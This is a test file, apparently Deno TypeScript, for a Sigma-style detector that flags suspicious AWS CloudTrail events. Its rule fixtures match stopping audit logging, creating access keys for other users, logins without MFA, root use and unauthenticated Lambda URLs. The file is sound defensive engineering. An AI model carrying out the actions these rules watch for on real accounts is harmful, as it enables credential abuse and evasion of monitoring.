    assert.ok(summary, lines.join("\n"));
    assert.match(summary, /skipped 2 \(other logsource\)/);
    assert.match(summary, /unsupported 4/);
    // The loaded rules run.
    const alerts = detector.match!(
      event({ eventName: "CreateAccessKey", requestParameters: { userName: "bob" } }),
    );
    assert.deepEqual(alerts?.map((a) => a.title), ["Keys for others"]);
  } finally {
    await cleanup();
  }
});

Deno.test("rules: relative paths resolve against the config folder; a missing path is a config error", async () => {
  const { dir, cleanup } = await tempRules({
    "rules/stop.yml": ruleYaml(
      "44444444-0000-4000-8000-000000000001",
      "Trail stopped",
      "s:\n  eventName: StopLogging\ncondition: s",
    ),
  });
  try {
    const { result } = await withLog(() =>
      createRules({ builtin: false, paths: ["rules"] }, { name: "r", baseDir: dir })
    );
    assert.equal(result.report.loaded, 1);
    const single = await withLog(() =>
      createRules({ builtin: false, paths: ["rules/stop.yml"] }, { name: "r", baseDir: dir })
    );
    assert.equal(single.result.report.loaded, 1);
    await assert.rejects(
      () =>
        withLog(() =>
          createRules({ builtin: false, paths: ["nope"] }, { name: "r", baseDir: dir })
        ),
      (error: unknown) => {
        assert.ok(error instanceof ConfigError);
        assert.equal(error.problems[0].path, "detectors.r.paths[0]");
        assert.match(error.problems[0].message, /no such file or directory/);
        return true;
      },
    );
  } finally {
    await cleanup();
  }
});

// ------------------------------------------------------------------------------------------------
// Detector: alerts, options

Deno.test("rules: an alert per matching rule carries id, title, level, tags and the record", async () => {
  const { dir, cleanup } = await tempRules({
    "a.yml": ruleYaml(
      "55555555-0000-4000-8000-000000000001",
      "MFA-less login",
      "s:\n  eventName: ConsoleLogin\n  additionalEventData.MFAUsed: 'NO'\ncondition: s",
      "tags:\n  - attack.initial-access\n  - attack.t1078.004\nfalsepositives:\n  - Users not enrolled yet\ndescription: No MFA.\n",
    ).replace("level: high", "level: informational"),
    "b.yml": ruleYaml(
      "55555555-0000-4000-8000-000000000002",
      "Any login",
      "s:\n  eventName: consolelogin\ncondition: s",
    )
      .replace("level: high", "level: critical"),
  });
  try {
    const detector = await rulesIn(dir);
    const login = event({
      eventName: "ConsoleLogin",
      eventSource: "signin.amazonaws.com",
      responseElements: { ConsoleLogin: "Success" },
      additionalEventData: { MFAUsed: "No" },
    });
    const alerts = detector.match!(login)!;
    assert.equal(alerts.length, 2);
    const [first, second] = alerts;
    assert.equal(first.key, "55555555-0000-4000-8000-000000000001");
    assert.equal(first.title, "MFA-less login");
    assert.equal(first.severity, "info");
    assert.deepEqual(first.details, {
      rule_id: "55555555-0000-4000-8000-000000000001",
      rule_title: "MFA-less login",
      level: "informational",
      tags: ["attack.initial-access", "attack.t1078.004"],
      description: "No MFA.",
      falsepositives: ["Users not enrolled yet"],
      matched: login.raw,
    });
    assert.equal(second.severity, "critical");
    assert.equal(second.key, "55555555-0000-4000-8000-000000000002");
    assert.equal(detector.match!(event({ eventName: "ListBuckets" })), undefined);
  } finally {
    await cleanup();
  }
});

Deno.test("rules: a record over 48 KB is replaced by a note and its event id", async () => {
  const { dir, cleanup } = await tempRules({
    "a.yml": ruleYaml(
      "66666666-0000-4000-8000-000000000001",
      "Policy put",
      "s:\n  eventName: PutRolePolicy\ncondition: s",
    ),
  });
  try {
    const detector = await rulesIn(dir);
    const big = event({
      eventName: "PutRolePolicy",
      requestParameters: { policyDocument: "x".repeat(MAX_MATCHED_BYTES) },
    });
    const [alert] = detector.match!(big)!;
    assert.equal(alert.details!.matched, undefined);
    assert.equal(alert.details!.event_id, big.event_id);
    assert.match(String(alert.details!.matched_omitted), /bytes serialized/);
    const small = event({
      eventName: "PutRolePolicy",
      requestParameters: { policyDocument: "{}" },
    });
    assert.equal(detector.match!(small)![0].details!.matched, small.raw);
  } finally {
    await cleanup();
  }
});

Deno.test("rules: exclude and minLevel leave rules out; the defaults exclude the two duplicated rules", async () => {
  assert.deepEqual(defaults.exclude, [ROOT_USAGE_RULE_ID, CONSOLE_LOGIN_NO_MFA_RULE_ID]);
  const { result: byDefault } = await withLog(() => createRules({}, { name: "r", baseDir: "/" }));
  const ids = byDefault.rules.map((r) => r.id);
  assert.ok(!ids.includes(ROOT_USAGE_RULE_ID));
  assert.ok(!ids.includes(CONSOLE_LOGIN_NO_MFA_RULE_ID));
  assert.deepEqual(
    byDefault.report.excluded.sort(),
    [ROOT_USAGE_RULE_ID, CONSOLE_LOGIN_NO_MFA_RULE_ID].sort(),
  );
  const rootCall = event({
    eventName: "ListUsers",
    eventSource: "iam.amazonaws.com",
    userIdentity: { type: "Root", arn: "arn:aws:iam::111122223333:root" },
  });
  assert.equal(byDefault.match!(rootCall), undefined);

  const { result: everything } = await withLog(() =>
    createRules({ exclude: [] }, { name: "r", baseDir: "/" })
  );
  assert.equal(everything.rules.length, byDefault.rules.length + 2);
  assert.deepEqual(everything.match!(rootCall)?.map((a) => a.key), [ROOT_USAGE_RULE_ID]);

  const { result: highOnly } = await withLog(() =>
    createRules({ minLevel: "high" }, { name: "r", baseDir: "/" })
  );
  assert.ok(highOnly.rules.length > 0);
  assert.ok(highOnly.rules.every((r) => r.level === "high" || r.level === "critical"));
  assert.equal(highOnly.report.belowMinLevel, byDefault.rules.length - highOnly.rules.length);

  const { result: none } = await withLog(() =>
    createRules({ builtin: false }, { name: "r", baseDir: "/" })
  );
  assert.equal(none.rules.length, 0);
});

Deno.test("rules: options are checked (types, levels, unknown keys)", () => {
  const check = new OptionsChecker(
    { paths: ["ok", 3], builtin: "yes", exclude: "id", minLevel: "severe", extra: true },
    "detectors.rules",
  );
  rulesDetector.check(check);
  check.done();
  const paths = check.problems.map((p) => p.path).sort();
  assert.deepEqual(paths, [
    "detectors.rules.builtin",
    "detectors.rules.exclude",
    "detectors.rules.extra",
    "detectors.rules.minLevel",
    "detectors.rules.paths[1]",
  ]);
  const good = new OptionsChecker({
    paths: ["sigma/rules/cloud/aws/cloudtrail"],
    builtin: true,
    exclude: [],
    minLevel: "informational",
  }, "d");
  rulesDetector.check(good);
  good.done();
  assert.deepEqual(good.problems, []);
});

Deno.test("rules: the MFAUsed rule matches a normalized console login end to end", async () => {
  const { result: detector } = await withLog(() =>
    createRules({ exclude: [] }, { name: "rules", baseDir: "/" })
  );
  const alerts = detector.match!(event({
    eventName: "ConsoleLogin",
    eventSource: "signin.amazonaws.com",
    eventType: "AwsConsoleSignIn",
    responseElements: { ConsoleLogin: "Success" },
    additionalEventData: { MFAUsed: "NO" },
  }));
  assert.deepEqual(alerts?.map((a) => a.key), [CONSOLE_LOGIN_NO_MFA_RULE_ID]);
});

Deno.test("rules parse deferred payloads only when a test reads them, after the other fields", () => {
  const call = {
    eventName: "CreateFunctionUrlConfig",
    eventSource: "lambda.amazonaws.com",
    userIdentity: { type: "IAMUser" },
    requestParameters: { authType: "NONE" },
  };
  const payload = rule({
    selection: { eventName: "CreateFunctionUrlConfig", "requestParameters.authType": "NONE" },
    condition: "selection",
  });
  const byIdentity = rule({
    selection: { "requestParameters.authType": "NONE", "userIdentity.type": "Root" },
    condition: "selection",
  });
  const identityOnly = rule({ selection: { "userIdentity.type": "Root" }, condition: "selection" });
  const keyword = rule({ keywords: ["none"], condition: "keywords" });

  // Decided by fields outside the payloads: the payloads stay unparsed.
  const record = deferred(call);
  assert.equal(identityOnly.matches(record), false);
  // The payload field comes first in the rule but is tested last.
  assert.equal(byIdentity.matches(record), false);
  assert.equal(hasDeferred(record), true);
  assert.equal(record.requestParameters, null);
  // A test that reads a payload parses it.
  assert.equal(payload.matches(record), true);
  assert.equal(hasDeferred(record), false);
  assert.deepEqual(record.requestParameters, { authType: "NONE" });
  // Keywords search the whole record, payloads included.
  assert.equal(keyword.matches(deferred(call)), true);
  // fieldref through a payload.
  const ref = rule({
    selection: { "userIdentity.type|fieldref": "requestParameters.type" },
    condition: "selection",
  });
  assert.equal(ref.matches(deferred({ ...call, requestParameters: { type: "IAMUser" } })), true);
});

Deno.test("a rules alert shows the whole record, payloads parsed, though no test read them", async () => {
  const { dir, cleanup } = await tempRules({
    "stop.yml": ruleYaml(
      "55555555-0000-4000-8000-000000000009",
      "Trail stopped",
      "s:\n  eventName: StopLogging\ncondition: s",
    ),
  });
  try {
    const detector = await rulesIn(dir);
    const stop = deferred({
      eventName: "StopLogging",
      eventSource: "cloudtrail.amazonaws.com",
      requestParameters: { name: "org-trail" },
    });
    const [alert] = detector.match!(event(stop))!;
    const matched = alert.details?.matched as Record<string, unknown>;
    assert.deepEqual(matched.requestParameters, { name: "org-trail" });
  } finally {
    await cleanup();
  }
});
